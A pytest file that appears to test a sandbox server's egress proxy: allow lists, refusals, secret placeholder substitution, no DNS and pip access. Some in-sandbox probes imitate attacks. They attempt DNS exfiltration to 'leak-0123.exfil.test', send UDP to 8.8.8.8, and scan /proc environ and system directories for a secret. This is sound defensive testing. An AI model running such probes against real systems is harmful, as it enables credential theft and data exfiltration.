"""Egress end to end: a real server, real sandboxes (bwrap, seccomp), the HTTPS test host on
loopback (its names mapped by the proxy's resolver, the server's `egress_hosts` setting), the
secret registered over the API. What runs in the sandbox is ordinary Python (urllib through
HTTPS_PROXY, pip)."""

from __future__ import annotations

import json
import pathlib
import subprocess
import sys
import textwrap

import pytest

import support
from kernel.report import describe_egress

from .apihost import api_host, egress_server  # noqa: F401 (api_host: a fixture)

SECRET_VALUE = "sk-live-9f8e7d6c5b4a-the-real-key-never-in-a-sandbox"

# Runs in the sandbox: GET a URL through the proxy, trusting the sandbox's bundle plus the
# test host's own CA (for the tunnelled host, whose certificate the sandbox checks itself).
FETCH = textwrap.dedent('''
    import json, os, ssl, urllib.request, urllib.error
    def fetch(url, headers=None):
        context = ssl.create_default_context()
        context.load_verify_locations("/workspace/test-ca.pem")
        request = urllib.request.Request(url, headers=headers or {})
        try:
            with urllib.request.urlopen(request, context=context, timeout=30) as answer:
                return answer.status, answer.read().decode()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read().decode()
        except (urllib.error.URLError, OSError) as exc:
            return 0, str(exc)
''')


@pytest.fixture(scope="module")
def server(image_source, api_host):
    hosts = {"api.test": "127.0.0.1", "other.test": "127.0.0.1", "self.test": "127.0.0.1",
             "intranet.test": "10.20.30.40"}
    with egress_server(image_source, api_host, hosts) as own:
        yield own


@pytest.fixture(scope="module")
def client(server):
    with server.client(timeout=300) as c:
        yield c


def sandbox_with(client, api_host, egress: dict) -> str:
    sandbox = support.create(client, egress=egress)
    r = client.put(f"/v1/sandboxes/{sandbox['id']}/files/test-ca.pem", content=api_host.ca_path.read_bytes())
    assert r.status_code == 201, r.text
    support.ok(support.execute(client, sandbox["id"], FETCH))
    return sandbox["id"]


def fetch(client, sandbox_id: str, url: str, headers: dict | None = None) -> tuple[int, str]:
    events = support.ok(support.execute(client, sandbox_id, f"print(json.dumps(fetch({url!r}, {headers!r})))"))
    status, text = json.loads(support.stream_text(events).strip().splitlines()[-1])
    return status, text


@pytest.fixture(scope="module")
def secret_sandbox(client, server, api_host):
    r = client.put("/v1/secrets/API_KEY", json={"value": SECRET_VALUE, "hosts": ["api.test"]})
    assert r.status_code == 200 and SECRET_VALUE not in r.text, r.text
    ports = f"{api_host.https_port},{api_host.http_port}"
    egress = {"allow": [f"api.test:{ports}", f"other.test:{ports}", f"127.0.0.1/32:{ports},{server.port}",
                        f"self.test:{server.port}", "intranet.test"], "secrets": ["API_KEY"]}
    sandbox_id = sandbox_with(client, api_host, egress)
    yield sandbox_id
    client.delete(f"/v1/sandboxes/{sandbox_id}")


def placeholder_of(client, sandbox_id: str) -> str:
    events = support.ok(support.execute(client, sandbox_id, "print(os.environ['API_KEY'])"))
    return support.stream_text(events).strip()


def test_allowed_host_succeeds_and_the_policy_is_shown(client, secret_sandbox, api_host):
    status, text = fetch(client, secret_sandbox, f"https://api.test:{api_host.https_port}/hello")
    assert status == 200 and json.loads(text)["path"] == "/hello"
    described = client.get(f"/v1/sandboxes/{secret_sandbox}").json()["egress"]
    assert "api.test" in described["policy"]["allow"][0] and described["secrets"] == ["API_KEY"]
    assert described["usage"]["requests"] >= 1
    shown = "\n".join(describe_egress(described))  # what %sandbox prints
    assert "only api.test:" in shown and "$API_KEY" in shown and "http://127.0.0.1:3128" in shown
    assert describe_egress(None) == ["none: no network at all"]


def test_refusals_are_clear(client, secret_sandbox, api_host, server):
    cases = {
        f"https://denied.test:{api_host.https_port}/": "not on this sandbox's egress allow list",
        f"https://93.184.216.34/": "IP address",
        f"http://self.test:{server.port}/v1/sandboxes": "sandbox server itself",
        f"http://127.0.0.1:{server.port}/v1/sandboxes": "sandbox server itself",
        "https://intranet.test/": "non-public address",
        f"https://api.test:22/": "port 22",
    }
    for url, reason in cases.items():
        status, text = fetch(client, secret_sandbox, url)
        assert status != 200 and reason in text, (url, status, text)


def test_placeholder_replaced_for_the_bound_host_only(client, secret_sandbox, api_host):
    placeholder = placeholder_of(client, secret_sandbox)
    assert placeholder.startswith("sbx-placeholder-") and SECRET_VALUE not in placeholder
    api_host.seen.clear()
    for host in ("api.test", "other.test"):
        status, _ = fetch(client, secret_sandbox, f"https://{host}:{api_host.https_port}/v1/models",
                          {"Authorization": f"Bearer {placeholder}"})
        assert status == 200
    status, _ = fetch(client, secret_sandbox, f"http://other.test:{api_host.http_port}/plain",
                      {"Authorization": f"Bearer {placeholder}"})
    bound, tunnelled, plain = api_host.seen[-3:]
    assert bound["headers"]["authorization"] == f"Bearer {SECRET_VALUE}"
    assert tunnelled["headers"]["authorization"] == f"Bearer {placeholder}"
    assert plain["headers"]["authorization"] == f"Bearer {placeholder}"


def test_the_secret_is_nowhere_in_the_sandbox_the_api_or_the_logs(client, secret_sandbox, server, api_host):
    fetch(client, secret_sandbox, f"https://api.test:{api_host.https_port}/warm",
          {"Authorization": f"Bearer {placeholder_of(client, secret_sandbox)}"})
    # every process's environ, cmdline and memory-mapped files the sandbox can read, its env, its files
    search = textwrap.dedent(f'''
        import os
        needle = {SECRET_VALUE!r}.encode()
        hits = []
        if needle in repr(dict(os.environ)).encode():
            hits.append("os.environ")
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            for name in ("environ", "cmdline"):
                try:
                    if needle in open(f"/proc/{{pid}}/{{name}}", "rb").read():
                        hits.append(f"/proc/{{pid}}/{{name}}")
                except OSError:
                    pass
        for top in ("/workspace", "/tmp", "/run", "/etc", "/opt/sandbox-kernel"):
            for root, dirs, files in os.walk(top):
                for f in files:
                    try:
                        if needle in open(os.path.join(root, f), "rb").read():
                            hits.append(os.path.join(root, f))
                    except OSError:
                        pass
        print("HITS", hits)
    ''')
    events = support.ok(support.execute(client, secret_sandbox, search))
    assert "HITS []" in support.stream_text(events)
    for path in ("/v1/secrets", f"/v1/sandboxes/{secret_sandbox}", "/v1/sandboxes", "/v1/info"):
        assert SECRET_VALUE not in client.get(path).text
    # the state directory holds the server's log, the request log, every sandbox's spec and logs
    leaked = [str(p) for p in server.state_dir.rglob("*") if p.is_file() and not p.is_symlink()
              and p.stat().st_size < 50_000_000 and SECRET_VALUE.encode() in p.read_bytes()]
    assert leaked == []
    records = [json.loads(line) for line in (server.state_dir / "egress" / "requests.log").read_text().splitlines()]
    assert any(r.get("secrets_replaced") == ["API_KEY"] and r["sandbox"] == secret_sandbox for r in records)


def test_without_a_policy_there_is_still_no_network(client):
    sandbox = support.create(client)
    try:
        code = textwrap.dedent('''
            import socket, os
            try:
                socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                print("INET OPEN")
            except OSError as exc:
                print("INET", exc.errno)
            # no proxy socket: on the pinned root (read-only) its directory is an empty mount point
            print("PROXY", os.environ.get("HTTPS_PROXY"), bool(os.path.isdir("/run/sandbox-egress") and os.listdir("/run/sandbox-egress")))
        ''')
        out = support.stream_text(support.ok(support.execute(client, sandbox["id"], code)))
        assert "INET 97" in out and "PROXY None False" in out
        assert "egress" not in client.get(f"/v1/sandboxes/{sandbox['id']}").json()
    finally:
        client.delete(f"/v1/sandboxes/{sandbox['id']}")


def test_bad_policies_and_unknown_secrets_are_4xx(client):
    for egress, status in (({"allow": ["bad host"]}, 422), ({"allow": "x"}, 422), ({"secrets": ["NOPE"]}, 404),
                           ({"nope": 1}, 422), ("x", 422)):
        r = client.post("/v1/sandboxes", json={"egress": egress})
        assert r.status_code == status and "error" in r.json(), (egress, r.text)
    r = client.put("/v1/secrets/bad-name", json={"value": "x", "hosts": ["a.example"]})
    assert r.status_code == 422


def test_dns_from_the_sandbox_goes_nowhere(client, secret_sandbox):
    """No resolver in the sandbox (names are resolved by the proxy, after the allow list)."""
    code = textwrap.dedent('''
        import socket
        try:
            socket.getaddrinfo("leak-0123.exfil.test", 53)
            print("RESOLVED")
        except OSError as exc:
            print("NO DNS", type(exc).__name__)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(b"x", ("8.8.8.8", 53))
            print("SENT")
        except OSError as exc:
            print("NO ROUTE", exc.errno)
    ''')
    out = support.stream_text(support.ok(support.execute(client, secret_sandbox, code)))
    assert "NO DNS" in out and "NO ROUTE" in out


def _pypi_reachable() -> str | None:
    """None when the host's pip can fetch from its index, else why not (then the pip tests skip)."""
    probe = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "--no-cache-dir", "-d",
                            "/tmp/egress-pip-probe", "--index-url", "https://pypi.org/simple", "termcolor"],
                           capture_output=True, text=True, timeout=300)
    return None if probe.returncode == 0 else f"the package index is unreachable from this host: {probe.stderr[-300:]}"


@pytest.fixture(scope="module")
def index_reachable():
    why = _pypi_reachable()
    if why:
        print(why)
        pytest.skip(why)


PIP = "import subprocess, sys; r = subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-deps', 'termcolor'], capture_output=True, text=True); print('RC', r.returncode); print(r.stdout[-2000:], r.stderr[-2000:])"


@pytest.mark.slow
def test_pip_install_with_the_index_allowed(client, index_reachable):
    sandbox = support.create(client, egress={"pip": True})
    try:
        out = support.stream_text(support.ok(support.execute(client, sandbox["id"], PIP)))
        assert "RC 0" in out, out
        events = support.ok(support.execute(client, sandbox["id"], "import termcolor; print(termcolor.__file__)"))
        assert support.stream_text(events).startswith("/opt/sandbox-packages/")
    finally:
        client.delete(f"/v1/sandboxes/{sandbox['id']}")


@pytest.mark.slow
def test_pip_install_fails_without_the_index(client, index_reachable, api_host):
    sandbox = support.create(client, egress={"allow": ["api.test"]})
    try:
        out = support.stream_text(support.ok(support.execute(client, sandbox["id"], PIP)))
        assert "RC 0" not in out and ("not on this sandbox's egress allow list" in out or "403" in out), out
    finally:
        client.delete(f"/v1/sandboxes/{sandbox['id']}")


def test_a_restarted_server_serves_the_sandboxs_proxy_again(client, server, api_host):
    """Sandboxes outlive their server: the new server opens their proxy socket again, with
    the same policy (last in this module: it restarts the module's server)."""
    ports = f"{api_host.https_port},{api_host.http_port}"
    sandbox_id = sandbox_with(client, api_host, {"allow": [f"api.test:{ports}", f"127.0.0.1/32:{ports}"]})
    assert fetch(client, sandbox_id, f"http://api.test:{api_host.http_port}/before")[0] == 200
    server.kill9()
    server.start()
    with server.client(timeout=300) as again:
        assert fetch(again, sandbox_id, f"http://api.test:{api_host.http_port}/after")[0] == 200
        status, text = fetch(again, sandbox_id, f"https://denied.test:{api_host.https_port}/")
        assert status != 200 and "not on this sandbox's egress allow list" in text
        assert again.get(f"/v1/sandboxes/{sandbox_id}").json()["egress"]["policy"]["allow"][0].startswith("api.test")
        again.delete(f"/v1/sandboxes/{sandbox_id}")
